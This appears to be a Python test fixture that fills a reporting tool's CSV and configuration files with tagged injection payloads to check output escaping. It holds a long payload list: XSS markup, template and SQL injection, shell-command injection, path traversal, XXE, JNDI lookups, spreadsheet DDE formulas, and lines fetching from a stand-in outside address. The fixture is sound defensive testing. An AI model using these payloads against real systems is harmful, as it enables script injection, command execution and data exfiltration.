"""Text of the field that wants to be more than text: payloads, and an office whose files hold them all."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass
from itertools import count
from pathlib import Path

from workbench import sample

OUTSIDE = "http://192.0.2.77"
"""An address of the documentation network: whoever fetches from it is seen, and reaches nobody."""

_RUN = "alert(document.domain)"
MARKUP = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt src={OUTSIDE}/a.js></ScRiPt>",
    f"<script>fetch('{OUTSIDE}/b')</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={OUTSIDE}/c.png>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><a xlink:href=javascript:{_RUN}><text>x</text></a></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><foreignObject><iframe src={OUTSIDE}/d>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<object data={OUTSIDE}/e.swf></object>",
    f"<embed src={OUTSIDE}/f>",
    f"<base href={OUTSIDE}/>",
    f"<meta http-equiv=refresh content=0;url={OUTSIDE}/g>",
    f"<link rel=stylesheet href={OUTSIDE}/h.css>",
    f"<link rel=prefetch href={OUTSIDE}/i>",
    f"<style>@import url({OUTSIDE}/j.css);</style>",
    f"<style>body{{background:url({OUTSIDE}/k)}}</style>",
    f"<div style=background:url({OUTSIDE}/l)>x</div>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>x",
    f"<video src=x onerror={_RUN}>",
    f"<audio src=x onerror={_RUN}>",
    f"<video poster={OUTSIDE}/m.png>",
    f"<marquee onstart={_RUN}>x",
    f"<form action={OUTSIDE}/n><button autofocus>x</button></form>",
    f"<button formaction=javascript:{_RUN}>x",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<a href='data:text/html,<script>{_RUN}</script>'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    f"<a href={OUTSIDE}/o ping={OUTSIDE}/p>x</a>",
    f"<isindex action=javascript:{_RUN}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f'<svg></p><style><a id="</style><img src=1 onerror={_RUN}>">',
    f"<template><script>{_RUN}</script></template>",
    f"<frameset onload={_RUN}>",
    f"<x contenteditable onblur={_RUN}>",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<!--><script>{_RUN}</script>-->",
    f"--!><img src=x onerror={_RUN}>",
    '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>',
    f"<?xml-stylesheet href={OUTSIDE}/q.xsl?>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f'"><script>{_RUN}</script>',
    f"'><img src=x onerror={_RUN}>",
    f'" onmouseover="{_RUN}',
    f"' onfocus='{_RUN}",
    f"`onload={_RUN}`",
    f'x" style="background:url({OUTSIDE}/r)',
    "<plaintext>",
    "<xmp>",
    "<listing>",
    "<%= 7*7 %>",
    f"javascript:{_RUN}",
    "data:text/html;base64,PHNjcmlwdD4=",
    f"{OUTSIDE}/plain",
    "//192.0.2.77/x",
    "file:///etc/passwd",
    "mailto:a@example.org",
    "www.example.org",
    "\\\\192.0.2.77\\share",
    f"<portal src={OUTSIDE}/s>",
    f"<table background={OUTSIDE}/t>",
    f"<image href={OUTSIDE}/u>",
    f"<use href={OUTSIDE}/v#x>",
    f"<script type=module>import '{OUTSIDE}/w'</script>",
    f"<script/src={OUTSIDE}/aa></script>",
    f"<script\x0bsrc={OUTSIDE}/ab></script>",
    f"<<script>{_RUN}//<</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script nomodule src={OUTSIDE}/ac></script>",
    '<script type=importmap>{"imports":{"x":"http://192.0.2.77/ad"}}</script>',
    '<script type=speculationrules>{"prefetch":[{"urls":["http://192.0.2.77/ae"]}]}</script>',
    f"<img/src/onerror={_RUN}>",
    f"<img srcset='{OUTSIDE}/af 1x'>",
    f"<img loading=lazy src={OUTSIDE}/ag>",
    f"<img src=`x`onerror={_RUN}>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    f"<IMG SRC=x OnErRoR='{_RUN}'>",
    f"<picture><source srcset={OUTSIDE}/ah><img src=x></picture>",
    f"<video><source onerror={_RUN}></video>",
    f"<video><track default src={OUTSIDE}/ai>",
    f"<input type=image src={OUTSIDE}/aj>",
    f"<body background={OUTSIDE}/ak>",
    f"<td background={OUTSIDE}/al>",
    f"<bgsound src={OUTSIDE}/am>",
    f"<layer src={OUTSIDE}/an>",
    f"<link rel=modulepreload href={OUTSIDE}/ao>",
    "<link rel=dns-prefetch href=//192.0.2.77>",
    "<link rel=preconnect href=http://192.0.2.77>",
    f"<link rel=manifest href={OUTSIDE}/ap>",
    f"<link rel=icon href={OUTSIDE}/aq>",
    f"<style>@font-face{{font-family:x;src:url({OUTSIDE}/ar)}}*{{font-family:x}}</style>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationend={_RUN}>x",
    f"<style>*{{list-style:url({OUTSIDE}/as)}}</style>",
    f'<b style="width:expression({_RUN})">x',
    f"<b style='-moz-binding:url({OUTSIDE}/at)'>x",
    f"<b style='cursor:url({OUTSIDE}/au),auto'>x",
    f"<x onfocusin={_RUN} tabindex=1 autofocus>x",
    f"<x onpointerrawupdate={_RUN}>x",
    f"<x oncontentvisibilityautostatechange={_RUN} style=content-visibility:auto>x",
    f"<button popovertarget=x>y</button><x popover id=x onbeforetoggle={_RUN}>",
    f"<dialog open onclose={_RUN}><form method=dialog><button autofocus>x",
    f"<svg><set attributeName=onmouseover to={_RUN}>",
    f"<svg><discard onbegin={_RUN}>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'>",
    f"<svg><feImage href={OUTSIDE}/av>",
    f"<svg><style>*{{fill:url({OUTSIDE}/aw#x)}}</style><rect>",
    f"<svg><title><style><img src=x onerror={_RUN}></style></title>",
    f"<math href=javascript:{_RUN}>x</math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={_RUN}>",
    f"<math><mi xlink:href={OUTSIDE}/ax>x</mi></math>",
    f"<div><template shadowrootmode=open><img src=x onerror={_RUN}></template></div>",
    f"<fencedframe src={OUTSIDE}/ay>",
    f"<iframe sandbox srcdoc='<img src={OUTSIDE}/az>'>",
    f"<iframe src='data:text/html,<script>{_RUN}</script>'>",
    f"<object type=text/html data='data:text/html,<script>{_RUN}</script>'>",
    f"<param name=movie value={OUTSIDE}/ba>",
    f"<a download href={OUTSIDE}/bb>x</a>",
    f"<a href='jav&#x09;ascript:{_RUN}'>x</a>",
    f"<a href='java&#10;script:{_RUN}'>x</a>",
    f"<a href='&#1;javascript:{_RUN}'>x</a>",
    f"<a href=JaVaScRiPt&colon;{_RUN}>x</a>",
    "<meta http-equiv=set-cookie content=a=b>",
    "<meta name=referrer content=unsafe-url>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    f"<noembed><img src=x onerror={_RUN}></noembed>",
    f"<noframes><img src=x onerror={_RUN}></noframes>",
    f"<select><option><style></option></select><img src=x onerror={_RUN}></style>",
    f"<form id=f><input name=attributes></form><img form=f src=x onerror={_RUN}>",
    "<form id=body><input name=innerHTML>",
    "<a id=document><a id=document name=body>",
    f"<!--[if gte IE 4]><script>{_RUN}</script><![endif]-->",
    f"<?php echo '{_RUN}' ?>",
    '<!--#exec cmd="true"-->',
    '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></x>',
)
WRITTEN = (
    "[link](http://192.0.2.77/md)",
    "![image](http://192.0.2.77/md.png)",
    "<http://192.0.2.77/auto>",
    "**bold**",
    "# heading",
    "```code```",
    "[x]: http://192.0.2.77/ref",
    "| a | b |",
    "- item",
    "> quote",
    "***",
    "~~x~~",
    "[x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "&lt;b&gt;",
    "&#60;script&#62;",
    "&amp;amp;",
    "&#x3c;img&#x3e;",
    "&colon;",
    "%3Cscript%3E",
    "%253Cscript%253E",
    "\\u003cscript\\u003e",
    "{{7*7}}",
    "{% include '/etc/passwd' %}",
    "{# gone #}",
    "{{ cycler.__init__.__globals__ }}",
    "${7*7}",
    "#{7*7}",
    "{area}",
    "{0}",
    "{}",
    "{{area}}",
    "%(area)s",
    "%s",
    "$area",
    "{week!r}",
    "\"; import os; os.system('true')",
    "__import__('os').system('true')",
    "'''\"\"\"",
    "\\",
    "\\n",
    "\\x41",
    '#read("/etc/passwd")',
    '#import "@preview/x:1.0.0"',
    '#include "/etc/passwd"',
    '#eval("1+1")',
    "$ x^2 $",
    "@label",
    "<label>",
    "= Heading",
    "*strong* _emph_",
    '#link("http://192.0.2.77/typst")',
    '#image("/etc/passwd")',
    "#set page(width: 1pt)",
    "#{ while true {} }",
    "\\input{/etc/passwd}",
    "\\href{http://192.0.2.77}{x}",
    "\\write18{true}",
    "\\end{document}",
    "$$\\sum$$",
    "`raw`",
    "~",
    "//comment",
    "/*comment*/",
    "#let x = 1",
    '#show "a": "b"',
    "#context here()",
    '#plugin("x.wasm")',
    "#metadata(sys.version)",
    '#panic("x")',
    '#bibliography("/etc/passwd")',
    "#footnote[x] #hide[y]",
    "#pagebreak()",
    "#outline()",
    '#raw(read("/etc/hosts"))',
    '#include("http://192.0.2.77/typ")',
    "#text(size: 0pt)[gone]",
    "#[ ] ]",
    "{{ self._TemplateReference__context }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% raw %}{{ x }}{% endraw %}",
    "{{{x}}}",
    "{{#if x}}y{{/if}}",
    "{{constructor.constructor('alert(1)')()}}",
    "<%! import os %>${os.system('true')}",
    "#set($x=7*7)$x",
    '<#assign x="freemarker.template.utility.Execute"?new()>',
    "[[${7*7}]]",
    "@(7*7)",
    "*{7*7}",
    "${jndi:ldap://192.0.2.77/x}",
    "`true` $(true) ${IFS}",
    "; true #",
    "| true",
    "&& true",
    "' OR '1'='1' --",
    "'; DROP TABLE revisions; --",
    "x' UNION SELECT * FROM revisions --",
    "*)(uid=*))(|(uid=*",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "CON",
    "aux.txt",
    "!!python/object/apply:os.system ['true']",
    "&anchor *anchor <<: x",
    '"""\nlevel = "public"\n"""',
    '"}], "level": "public", "x": [{"',
    "null",
    "NaN",
    "-0",
    "&xxe; %xxe;",
    "]]>",
    ") Tj ET (",
    ">> /JS (app.alert(1)) /S /JavaScript <<",
    "endstream endobj",
    "%PDF-1.7",
    "```mermaid graph TD; A-->B ```",
    "<details><summary>x</summary>y</details>",
    "[^1]: note",
    "[x][1] [1]: <http://192.0.2.77/md2>",
    "![][x]",
    "\\[x\\](http://192.0.2.77/md3)",
    "- [x] task",
    "1. one",
    "Title\\n=====",
    "\\(x^2\\) \\[y\\]",
    "\\immediate\\openout",
    "\\catcode`\\@=11",
    "Bcc: a@example.org",
    "%0d%0aBcc: a@example.org",
    "=?utf-8?q?=0d=0aBcc:_a@example.org?=",
    "begin:vcard",
)
FORMULAS = (
    '=HYPERLINK("http://192.0.2.77/?x="&A1,"more")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|'/C calc'!A0",
    '=IMPORTXML("http://192.0.2.77/","//a")',
    "=DDE(1;2;3)",
    '=WEBSERVICE("http://192.0.2.77/")',
    '=IMAGE("http://192.0.2.77/x.png")',
    '"=1+1"',
    "%0A=1+1",
    "|calc",
    "=\u200b1+1",
    "'=1+1",
    ";=1+1",
    ",=1+1",
    'a,b"c',
    '"',
    '""',
    "TRUE",
    "1e999",
    "0x41",
    '=EXEC("calc")',
    '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)',
    '=REGISTER("kernel32","WinExec")',
    '=RTD("x",,"y")',
    '=INFO("osversion")',
    '=CELL("filename")',
    '=INDIRECT("A1")',
    '=FILTERXML(WEBSERVICE("http://192.0.2.77/"),"//a")',
    '=IMPORTDATA("http://192.0.2.77/")',
    '=IMPORTHTML("http://192.0.2.77/","table",1)',
    '=IMPORTFEED("http://192.0.2.77/")',
    '=IMPORTRANGE("x","A1")',
    "=_xlfn.STOCKHISTORY(A1)",
    "={1+1}",
    "{=1+1}",
    "=msexcel|'..\\..\\cmd.exe'!_xlbgnm.A1",
    "\uff0b1+1",
    "\u22121+1",
    "\ufe66SUM(A1)",
    "=A1:A9",
    "#REF!",
    "+1 555 0100",
    "-",
    "=",
    "@",
    "00123",
    "1/2",
    "2026-11-11",
    "12:30",
    "FALSE",
)
SIGNS = (
    "\u202egnol\u202c",
    "\u2066left\u2069",
    "\u200e\u200f",
    "in\u200bvis\u200cib\u200dle",
    "so\u00adft",
    "\ufeffmark",
    "\u0645\u0631\u062d\u0628\u0627 <b>",
    '\u05e9\u05dc\u05d5\u05dd "x"',
    "\uff1d1+1",
    "\uff1cscript\uff1e",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\U0001f1f2\U0001f1ff",
    "e\u0301\u0302\u0303",
    "be\x07ll",
    "\x1b[31mred",
    "a\tb",
    "a\u2028b",
    "a\x85b",
    "\ufdd0\uffff",
    "\U000e0041\U000e007f",
    "\ue000",
    "\U0001d4d0\U0001d4d1",
    "\u2067right\u2069",
    "\u061carabic mark",
    "\u3164hangul filler",
    "\u2800braille blank",
    "a\u20e3\ufe0fb",
    "\ufff9base\ufffanote\ufffb",
    "\U0001d173beam\U0001d174",
    "\u180evowel",
    "\u2060joined\u2063",
    "\ufb01ne",
    "\u212bngstrom",
    "\u1e9bi\u0323",
    "\u202d<script>\u202c",
    "\u2029paragraph",
    "\x0cfeed",
    "\x1b]0;title\x07",
    "\x9b31m",
    "\x7f",
    "\u0300starts with a mark",
    "\u05d0" + "a" + "\u05d1" + "1",
    "\U000f0000",
    "\U0010ffff",
)
HEAVY = {"a megabyte": "Gravelroad " * 95_000, "marks": "e" + "\u0301" * 100_000}

PAYLOADS = (*MARKUP, *WRITTEN, *FORMULAS, *SIGNS)

_ROW = {
    "incident": {
        "occurred_on": "2026-11-11", "date_precision": "day", "event_type": "attack_on_civilians",
        "threat_category": "armed_conflict", "killed_best": "7", "verification": "confirmed",
    },
    "liaison_entry": {
        "occurred_on": "2026-11-12", "organisation_kind": "police", "channel": "phone", "info_grade": "B2",
        "consent_to_quote": "yes",
    },
    "commitment": {"made_on": "2026-11-10", "due_on": "2026-11-12", "state": "open"},
    "programme_site": {"state": "suspended", "state_since": "2026-11-10", "criticality": "PC1"},
    "alert": {"occurred_on": "2026-11-10", "raised_by_kind": "community", "outcome": "occurred"},
    "assessment": {
        "area": "kestara", "week": "2026-W46", "occurred_on": "2026-11-09", "confidence": "low",
        "horizon_days": "14",
    },
    "district_assessment": {
        "assessed_on": "2026-11-10", "rating": "4", "direction": "unchanged", "confidence": "low",
    },
    "risk_line": {
        "valid_from": "2026-10-01", "valid_to": "2026-12-31", "threat_category": "armed_conflict",
        "likelihood_present": "likely", "impact_present": "critical", "likelihood_residual": "likely",
        "impact_residual": "severe", "decided_on": "2026-10-02",
    },
    "risk_measure": {
        "recorded_on": "2026-10-02", "risk": "ri0", "kind": "control", "due_on": "2026-10-05",
        "state": "agreed",
    },
    "support": {
        "recorded_on": "2026-10-02", "support_type": "training", "decision": "approved",
        "next_review_on": "2026-11-01", "started_on": "2026-10-05", "risk_rating": "high",
    },
    "violation": {
        "occurred_on": "2026-11-10", "reported_at": "2026-11-12T09:00Z", "act": "torture",
        "victims_men": "1", "source_grade": "B2", "government_response": "acknowledged",
    },
}  # fmt: skip
_TEXTS = {
    "incident": ("actor1", "actor2", "place_name", "headline", "narrative", "releasable_text", "sub_type"),
    "liaison_entry": ("organisation", "interlocutor_role", "officer", "summary", "releasable_text"),
    "commitment": ("made_by", "text", "releasable_text"),
    "programme_site": ("organisation", "programme", "resume_condition"),
    "alert": ("indicator", "threat", "response"),
    "assessment": ("text", "because", "owner"),
    "district_assessment": ("reason", "releasable_text", "assessor", "reviewer"),
    "risk_line": ("area_name", "threat_event", "decided_by"),
    "risk_measure": ("text", "owner"),
    "support": ("activity", "recipient_unit", "decided_by", "place_name"),
    "violation": ("perpetrator_unit", "referred_to", "response_text", "account", "place_name"),
}  # fmt: skip
_SOURCE = """
[[source]]
slug = "{slug}"
title = {title}
record = "{slug}"
reader = "table"
path = "data/injected_{slug}.csv"
licence = {licence}
attribution = {attribution}
level = "{level}"
columns = {{ {columns} }}
"""


@dataclass(frozen=True)
class Text:
    """One text put into a cell: the payload, and the tag by which it is known again."""

    payload: str
    record: str
    column: str
    tag: str

    @property
    def cell(self) -> str:
        """The payload first, so that it starts the cell, and the tag last."""
        return f"{self.payload} {self.tag}"


def make(folder: Path) -> dict[str, Text]:
    """Make the office in `folder`, its files full of payloads; return every text by its tag."""
    sample.make(folder)
    known: dict[str, Text] = {}
    ends = "# ---- Incidents, from two publishers"
    configuration = (folder / "workbench.toml").read_text(encoding="utf-8").partition(ends)[0]
    configuration = configuration.replace('["meridian", "desk_log"]', '["incident"]')
    configuration = configuration.replace("[[briefing]]\n", '[[briefing]]\ntables = ["csv", "xlsx"]\n')
    for record, columns in _TEXTS.items():
        titles = [_text(known, payload, record, part) for part, payload in _TITLES.items()]
        mapped = ["record_id", *_ROW[record], *columns]
        mapped += ["district_given"] if record != "risk_measure" else []
        mapped += ["part", "position"] if record == "assessment" else []
        configuration += _SOURCE.format(
            slug=record, title=_toml(titles[0]), licence=_toml(titles[1]), attribution=_toml(titles[2]),
            level="public" if record in {"incident", "assessment"} else "internal",
            columns=", ".join(f'{name} = "{name}"' for name in mapped),
        )  # fmt: skip
        _write(folder / "data" / f"injected_{record}.csv", mapped, _rows(known, record, columns))
    (folder / "workbench.toml").write_text(configuration, encoding="utf-8")
    return known


_TITLES = {"title": MARKUP[0], "licence": MARKUP[3], "attribution": FORMULAS[0]}


_NUMBERS = {
    "incident": 30, "liaison_entry": len(PAYLOADS), "commitment": 12, "programme_site": 12, "alert": 12,
    "assessment": 24, "district_assessment": 3, "risk_line": 12, "risk_measure": 24, "support": 40,
    "violation": 40,
}  # fmt: skip
"""Rows of each type: in the liaison log, every payload stands once in every column that people write."""
_HEAVY_IN = {"incident": "narrative", "liaison_entry": "summary"}


def _rows(known: dict[str, Text], record: str, columns: Sequence[str]) -> Iterable[Mapping[str, str]]:
    """Return rows whose cells take the payloads in turn, each record type from another one on."""
    turn = count(sum(map(ord, record)))
    parts = ("judgement", "situation", "outlook", "implication", "recommendation", "assumption")
    for number in range(_NUMBERS[record]):
        row = {**_ROW[record], "record_id": f"{record[:2]}{number}"}
        row |= {"district_given": "Kuro"} if record != "risk_measure" else {}
        if record == "assessment":
            row |= {"part": parts[number % len(parts)], "position": str(number + 1)}
        for column in columns:
            row[column] = _text(known, PAYLOADS[next(turn) % len(PAYLOADS)], record, column)
        yield row
    for name, payload in HEAVY.items() if record in _HEAVY_IN else ():
        given = {**_ROW[record], "record_id": name[:3], "district_given": "Kuro"}
        yield {**given, **dict.fromkeys(columns, f"heavy {name}"), _HEAVY_IN[record]: payload}


def _text(known: dict[str, Text], payload: str, record: str, column: str) -> str:
    tag = f"zq{len(known):05d}k"
    known[tag] = Text(payload, record, column, tag)
    return known[tag].cell


def _toml(text: str) -> str:
    return json.dumps(text)


def _write(file: Path, columns: list[str], rows: Iterable[Mapping[str, str]]) -> None:
    file.parent.mkdir(parents=True, exist_ok=True)
    with file.open("w", encoding="utf-8", newline="") as opened:
        writer = csv.DictWriter(opened, columns)
        writer.writeheader()
        writer.writerows(rows)
